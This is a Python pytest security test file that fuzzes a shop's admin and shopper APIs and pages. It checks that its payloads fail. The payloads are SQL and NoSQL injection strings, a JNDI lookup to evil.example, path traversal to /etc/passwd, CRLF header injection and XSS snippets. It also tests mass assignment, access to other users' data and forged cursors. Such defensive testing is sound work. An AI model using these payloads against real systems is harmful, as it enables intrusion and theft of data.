"""Attacks by what is sent: injection into every parameter, fields that are not the caller's to set, others' things,
and scripts in a product's texts, looked at with a real browser.
"""

import time
from collections.abc import Iterator
from typing import Any

import pytest
import requests
from playwright.sync_api import Browser, sync_playwright

from tests.flow.running import PASSWORD, eventually
from tests.flow.stores import CONTENT, unique_name
from tests.security.callers import TIMEOUT, Caller
from tests.security.conftest import System
from tools.stack.browser import LAUNCH

STRINGS = (
    "' OR '1'='1",
    '" OR ""="',
    "'; DROP TABLE products; --",
    "1; SELECT SLEEP(5)",
    "' UNION SELECT password_hash FROM staff --",
    "') OR SLEEP(5) AND ('1'='1",
    "\\' OR 1=1 --",
    "%' OR 1=1 #",
    "$where: sleep(5000)",
    "'; return sleep(5000); var a='",
    '{"$gt": ""}',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "\r\nSet-Cookie: evil=1",
)
OPERATORS: tuple[Any, ...] = (
    {"$ne": None},
    {"$gt": ""},
    {"$regex": ".*"},
    {"$where": "sleep(5000)"},
    [{"$ne": 1}],
    {"__class__": "x"},
    ["' OR 1=1 --"],
)
DOCUMENTS = {"admin": "owner", "client": "shopper"}


def resolved(document: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    name = schema.get("$ref", "").removeprefix("#/components/schemas/")
    return dict(document["components"]["schemas"][name]) if name else schema


def attempts(document: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Yield every request of the public API with one hostile value in one place."""
    for path, item in document["paths"].items():
        if not path.startswith("/api/") or path.endswith("/revoke"):  # a token too many ends the sign-in
            continue
        there = path.replace("{product_id}", "1").replace("{letter_id}", "a" * 32)
        there = there.replace("{staff_id}", "999999").replace("{job_id}", "999999").replace("{key_id}", "999999")
        for parameter in item.get("parameters", []):
            for text in STRINGS:
                yield "GET", path.replace(f"{{{parameter['name']}}}", requests.utils.quote(text, safe="")), {}
        for method in item.keys() - {"parameters"}:
            operation = item[method]
            for parameter in operation.get("parameters", []):
                for text in STRINGS:
                    place = {"query": "params", "header": "headers"}[parameter["in"]]
                    yield method, there, {place: {parameter["name"]: text.replace("\r\n", "")}}
                if parameter["in"] == "query":
                    yield method, there, {"params": {f"{parameter['name']}[$ne]": "1"}}
            content = operation.get("requestBody", {}).get("content", {}).get("application/json")
            if content:
                for name in resolved(document, content["schema"]).get("properties", {}):
                    for value in (*STRINGS, *OPERATORS):
                        yield method, there, {"json": {name: value}, "headers": {"If-Match": "*"}}


@pytest.mark.parametrize("service", DOCUMENTS)
def test_injection_into_any_parameter_is_treated_as_a_value(system: System, service: str) -> None:
    base = system.admin_url if service == "admin" else system.client_url
    system.running.create()
    tried = 0
    with requests.Session() as session:
        session.headers["Authorization"] = f"Bearer {system.tokens[DOCUMENTS[service]]}"
        document = session.get(f"{base}/api/openapi.json", timeout=TIMEOUT).json()
        for method, path, options in attempts(document):
            began = time.monotonic()
            answer = session.request(method, f"{base}{path}", timeout=TIMEOUT, **options)
            assert answer.status_code < 500, (method, path, options)
            assert time.monotonic() - began < 4, (method, path, options)  # no statement was told to sleep
            assert "evil" not in answer.headers.get("Set-Cookie", "")
            assert "$argon2" not in answer.text
            tried += 1
    assert tried > 200, tried


def test_condition_that_is_always_true_finds_nothing(system: System) -> None:
    for text in STRINGS[:8]:
        found = system.staff["viewer"].ask("GET", "/api/v1/products", params={"q": text, "limit": 5}).json()
        assert found["items"] == [], text
        assert system.running.client.list(q=text) == [], text
    for base in (system.admin_url, system.client_url):
        for value in (*STRINGS, *OPERATORS):
            for body in ({"email": value, "password": PASSWORD}, {"email": "owner@example.com", "password": value}):
                answer = requests.post(f"{base}/api/v1/auth/token", json=body, timeout=TIMEOUT)
                assert answer.status_code in {401, 422}, body


FIELDS = {
    "admin": (
        "id",
        "version",
        "likes",
        "live_sku",
        "deleted_at",
        "created_at",
        "author",
        "role",
        "password_hash",
        "epoch",
    ),
    "client": ("id", "role", "is_admin", "password_hash", "created_at", "_id", "$set", "session", "sub"),
}


def test_fields_that_callers_must_not_set_are_refused(system: System) -> None:
    product_id = system.running.create()
    for name in FIELDS["admin"]:
        new = system.staff["editor"].request(
            "POST", "/api/v1/products", json={**CONTENT, "sku": unique_name(), name: 1}
        )
        path, any_version = f"/api/v1/products/{product_id}", {"If-Match": "*"}
        changed = system.staff["editor"].request("PATCH", path, json={name: 1}, headers=any_version)
        assert (new.status_code, changed.status_code) == (422, 422), name
    for name in FIELDS["client"]:
        body = {"email": f"{unique_name()}@example.com", "password": PASSWORD, name: "owner"}
        for path in ("/api/v1/shoppers", "/api/v1/auth/token"):
            assert requests.post(f"{system.client_url}{path}", json=body, timeout=TIMEOUT).status_code == 422, name


def test_shopper_reads_and_changes_only_own_data(system: System) -> None:
    product_id = system.running.create()
    eventually(lambda: system.running.arrived(product_id))
    system.running.client.like(product_id)
    other = {"email": f"{unique_name()}@example.com", "password": PASSWORD}
    token = requests.post(f"{system.client_url}/api/v1/shoppers", json=other, timeout=TIMEOUT).json()["access_token"]
    mine = requests.Session()
    mine.headers["Authorization"] = f"Bearer {token}"
    like = f"{system.client_url}/api/v1/products/{product_id}/likes/me"
    assert mine.get(f"{system.client_url}/api/v1/likes/me", timeout=TIMEOUT).json()["items"] == []
    assert mine.delete(like, timeout=TIMEOUT).json()["liked"] is False
    assert [item["id"] for item in system.running.client.ask("GET", "/api/v1/likes/me").json()["items"]] == [product_id]
    somebody = mine.put(like.replace("/likes/me", "/likes/somebody"), timeout=TIMEOUT)
    assert somebody.status_code == 404
    for password, status in ((f"{PASSWORD}!", 403), (PASSWORD, 204)):
        closed = mine.delete(f"{system.client_url}/api/v1/account", json={"password": password}, timeout=TIMEOUT)
        assert closed.status_code == status
    assert mine.get(f"{system.client_url}/api/v1/likes/me", timeout=TIMEOUT).status_code == 401
    assert system.running.client.ask("GET", "/api/v1/likes/me").json()["items"] != []  # only the other's went


def test_altered_or_foreign_cursor_is_refused(system: System) -> None:
    for _ in range(2):
        system.running.create()
    for api, path in ((system.staff["viewer"], "/api/v1/products"), (system.running.client, "/api/v1/products")):
        eventually(lambda api=api, path=path: api.ask("GET", path, params={"limit": 1}).json()["next_cursor"])
        cursor = api.ask("GET", path, params={"limit": 1}).json()["next_cursor"]
        payload, _, signature = cursor.rpartition(".")
        for forged in (payload, f"{payload}.", f"{payload[:-2]}AA.{signature}", f"{cursor[:-2]}AA", "eyJ9", cursor * 2):
            assert api.request("GET", path, params={"cursor": forged}).status_code == 400, forged
        other = {"sort": "title" if path else "", "cursor": cursor}
        assert api.request("GET", path, params=other).status_code in {400, 422}


SCRIPTS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror='window.hit=1'>",
    '"><svg onload=window.hit=1>',
    "'-window.hit=1-'",
    "</title></textarea><script>window.hit=1</script>",
    "{{constructor.constructor('window.hit=1')()}}",
    "<a href='javascript:window.hit=1'>x</a>",
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(**LAUNCH)
        yield started
        started.close()


def test_script_in_a_product_is_text_on_every_page(system: System, browser: Browser) -> None:
    shown = {text: system.running.create(title=text, description=text, category=text[:80]) for text in SCRIPTS}
    for product_id in shown.values():
        eventually(lambda product_id=product_id: system.running.arrived(product_id))
    caller = Caller(system, "editor", "admin", "editor@example.com")
    caller.sign_in()
    context = browser.new_context()
    cookies = [{"name": c.name, "value": c.value, "url": system.admin_url} for c in caller.pages.cookies]
    context.add_cookies(cookies)  # type: ignore[arg-type]
    page = context.new_page()
    alarms: list[str] = []
    page.on("dialog", lambda dialog: alarms.append(dialog.message))
    page.on("pageerror", lambda error: alarms.append(str(error)))
    page.on("console", lambda message: alarms.append(message.text) if "Content Security" in message.text else None)
    urls = [f"{system.client_url}/", f"{system.client_url}/?q=script", f"{system.admin_url}/console/products"]
    for product_id in shown.values():
        urls += [f"{system.client_url}/products/{product_id}"]
        urls += [f"{system.admin_url}/console/products/{product_id}{tail}" for tail in ("", "/edit", "/delete")]
    for url in urls:
        response = page.goto(url)
        assert response
        assert response.status == 200, url
        assert "hit" in page.content(), url
        assert page.evaluate("window.hit") is None, url
    for base in (system.client_url, system.admin_url):  # reflected: a search, an error, a redirect
        for text in SCRIPTS:
            page.goto(f"{base}/{requests.utils.quote(text, safe='')}")
            assert page.evaluate("window.hit") is None
    assert alarms == []
    context.close()


@pytest.mark.parametrize("service", DOCUMENTS)
def test_swagger_ui_works_under_the_policy(system: System, browser: Browser, service: str) -> None:
    page = browser.new_page()
    alarms: list[str] = []
    page.on("console", lambda message: alarms.append(message.text) if message.type == "error" else None)
    page.goto(f"{system.admin_url if service == 'admin' else system.client_url}/api/docs")
    page.get_by_role("heading", name="Lockstep").first.wait_for(timeout=15_000)
    page.locator(".opblock").first.wait_for(timeout=15_000)
    assert alarms == []
    page.close()
